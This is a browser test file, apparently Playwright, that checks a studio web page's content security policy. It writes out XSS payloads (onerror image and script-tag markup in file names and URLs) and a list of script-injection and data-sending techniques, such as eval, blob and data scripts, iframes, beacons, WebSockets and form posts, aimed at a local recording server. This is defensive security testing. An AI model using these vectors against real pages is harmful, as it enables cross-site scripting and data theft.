// The studio under attack: names and links that are markup, and code in the page that tries to run other code or to send
// something. Nothing runs, and nothing leaves the page.

import { expect, test, useSample, useServer } from './fixtures.mjs';
import { stillFiles, waitForPhase } from './studio-page.mjs';

const MARKUP = '<img src=x onerror="globalThis.broken=1"><script>globalThis.broken=1</scr' + 'ipt>"\'';

/** Attempts of code in the page; `foreign` is another host, which records requests. */
const ATTEMPTS = {
  eval: () => globalThis.eval('globalThis.broken = 1'),
  function: () => new Function('globalThis.broken = 1')(),
  timer: () => setTimeout('globalThis.broken = 1'),
  inline: () =>
    document.body.append(Object.assign(document.createElement('script'), { text: 'globalThis.broken = 1' })),
  handler: () => document.body.insertAdjacentHTML('beforeend', '<img src="./x" onerror="globalThis.broken = 1">'),
  link: () => {
    document.body.insertAdjacentHTML('beforeend', '<a id="bad" href="javascript:globalThis.broken=1">x</a>');
    document.querySelector('#bad').click();
  },
  blobScript: () => {
    const src = URL.createObjectURL(new Blob(['globalThis.broken = 1'], { type: 'text/javascript' }));
    document.body.append(Object.assign(document.createElement('script'), { src }));
  },
  dataModule: () => import(/* @vite-ignore */ `data:text/javascript,${'globalThis.broken = 1'}`),
  blobWorker: (foreign) => {
    const code = new Blob([`fetch(${JSON.stringify(foreign)})`], { type: 'text/javascript' });
    new Worker(URL.createObjectURL(code));
  },
  frame: (src) => document.body.append(Object.assign(document.createElement('iframe'), { src })),
  frameOfText: async () => {
    const srcdoc = '<script>parent.broken = 1</scr' + 'ipt>';
    const frame = Object.assign(document.createElement('iframe'), { srcdoc });
    const loaded = new Promise((resolve) => (frame.onload = resolve));
    document.body.append(frame);
    await loaded;
    // The violation is reported to the document of the frame.
    if (globalThis.broken !== 1) throw new Error('nothing ran');
  },
  script: (src) => document.body.append(Object.assign(document.createElement('script'), { src })),
  image: (src) => document.body.append(Object.assign(new Image(), { src })),
  media: (src) => document.body.append(Object.assign(document.createElement('video'), { src })),
  style: (href) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href })),
  inlineStyle: (at) => document.body.insertAdjacentHTML('beforeend', `<p style="background:url(${at})">x</p>`),
  object: (data) => document.body.append(Object.assign(document.createElement('object'), { data })),
  fetch: (foreign) => fetch(foreign, { mode: 'no-cors' }),
  request: (foreign) => {
    const request = new XMLHttpRequest();
    request.open('POST', foreign);
    request.send('frames');
  },
  beacon: (foreign) => navigator.sendBeacon(foreign, 'frames'),
  events: (foreign) => new EventSource(foreign),
  socket: (foreign) => new WebSocket(foreign.replace('http', 'ws')),
  base: (href) => {
    document.head.append(Object.assign(document.createElement('base'), { href }));
    return fetch('./x');
  },
  form: (action) => {
    const form = Object.assign(document.createElement('form'), { action, method: 'post' });
    document.body.append(form);
    form.submit();
  },
};

const studio = useSample({ sample: 'tiny', query: `?${encodeURIComponent(MARKUP)}=1#${MARKUP}` });
const requests = [];
/** Resolves when another host is reached by an attempt. */
let reportArrival;
const arrival = new Promise((resolve) => (reportArrival = resolve));
const foreignHost = useServer(({ url }, response) => {
  requests.push(url);
  reportArrival('reached');
  response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
  response.end('globalThis.broken = 1');
});

test('shows names of files and parts of links that are markup as text', async () => {
  const { page } = studio;
  const name = MARKUP.replaceAll('/', '');
  await page.setInputFiles('#file', stillFiles(name));
  await expect(page.locator('#clip-name')).toContainText('<img src=x');
  await waitForPhase(page, 'done');
  await page.setInputFiles('#file', [{ name: `${name}.xyz`, mimeType: 'x/y', buffer: Buffer.from('nothing') }]);
  await expect(page.locator('#notice')).toContainText('<img src=x');
  await expect(page.locator('img[src="x"]')).toHaveCount(0);
  expect(await page.evaluate(() => globalThis.broken)).toBeUndefined();
});

test('lets no other code run and nothing be sent', async ({ faults }) => {
  const { page } = studio;
  await page.evaluate(() => {
    globalThis.violation = new EventTarget();
    document.addEventListener('securitypolicyviolation', () => globalThis.violation.dispatchEvent(new Event('report')));
    // Code that runs after all sets this.
    globalThis.breach = new Promise((resolve) =>
      Object.defineProperty(globalThis, 'broken', { set: () => resolve('code ran') }),
    );
  });
  for (const [name, attempt] of Object.entries(ATTEMPTS)) {
    // The policy does not apply to the driver's evaluation that defines the function, only to its effects.
    await page.evaluate(`globalThis.attempt = ${attempt}`);
    const outcome = await Promise.race([page.evaluate(attemptOutcome, `${foreignHost.origin}/${name}`), arrival]);
    expect(outcome, name).toMatch(/^refused/);
  }
  expect(requests).toEqual([]);
  expect(await page.evaluate(() => document.body.dataset.state)).toBe('done');
  // The browser reports each violation, and requests that it did not send. One to the site itself may still be under way.
  faults.expected.push(/./);
  await page.context().close();
});

/** Runs in the page: makes the attempt and returns how it ended. */
async function attemptOutcome(foreign) {
  const violated = new Promise((resolve) =>
    globalThis.violation.addEventListener('report', () => resolve('refused by the policy'), { once: true }),
  );
  // In a task of the page, as `eval` is allowed in tasks of the driver.
  await new Promise((resolve) => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = resolve;
    port2.postMessage('');
  });
  const thrown = (async () => globalThis.attempt(foreign))().then(
    () => new Promise(() => {}),
    () => 'refused by an error',
  );
  return Promise.race([violated, thrown, globalThis.breach]);
}
